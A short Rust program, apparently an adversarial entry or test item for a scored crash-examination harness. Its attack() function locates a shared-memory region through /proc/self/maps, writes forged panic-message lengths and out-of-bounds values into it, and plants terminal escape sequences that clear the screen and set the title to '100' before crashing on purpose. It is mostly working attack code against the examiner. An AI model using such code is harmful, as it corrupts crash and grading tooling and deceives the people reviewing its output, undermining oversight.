// What the examiner reads after a crash was written by whoever crashed.
// on: reference
// in: pop
// at: home
// earns: 76

unsafe extern "C" {
    fn open(path: *const core::ffi::c_char, flags: i32) -> i32;
    fn read(fd: i32, to: *mut u8, len: usize) -> isize;
}

/// Where the shared memory is mapped from its first byte on: `7f00… rw-s 00000000 00:01 2 /memfd:arena (deleted)`.
fn note() -> Option<usize> {
    static mut MAPS: [u8; 1 << 16] = [0; 1 << 16];
    unsafe {
        let fd = open(c"/proc/self/maps".as_ptr(), 0);
        let maps = &mut *(&raw mut MAPS);
        let mut len = 0;
        while let more @ 1.. = read(fd, maps[len..].as_mut_ptr(), maps.len() - len) {
            len += more.cast_unsigned();
        }
        let text = core::str::from_utf8(&maps[..len]).ok()?;
        let line = text.lines().find(|line| line.contains("memfd:arena") && line.contains(" rw-s 00000000 "))?;
        usize::from_str_radix(line.split('-').next()?, 16).ok()
    }
}

fn attack() {
    let Some(note) = note() else { return };
    let words = core::ptr::with_exposed_provenance_mut::<u64>(note);
    unsafe {
        // A panic whose message is longer than the note, and places far outside.
        words.write_volatile(1);
        words.add(8).write_volatile(u64::MAX);
        words.add(4096).write_volatile(1 << 60);
        // Then one that a terminal obeys.
        words.add(9).cast::<[u8; 15]>().write_volatile(*b"\x1b[2J\x1b]0;100\x07\xff\xfe\n");
        words.add(8).write_volatile(15);
        core::ptr::null_mut::<u8>().write_volatile(1);
    }
}
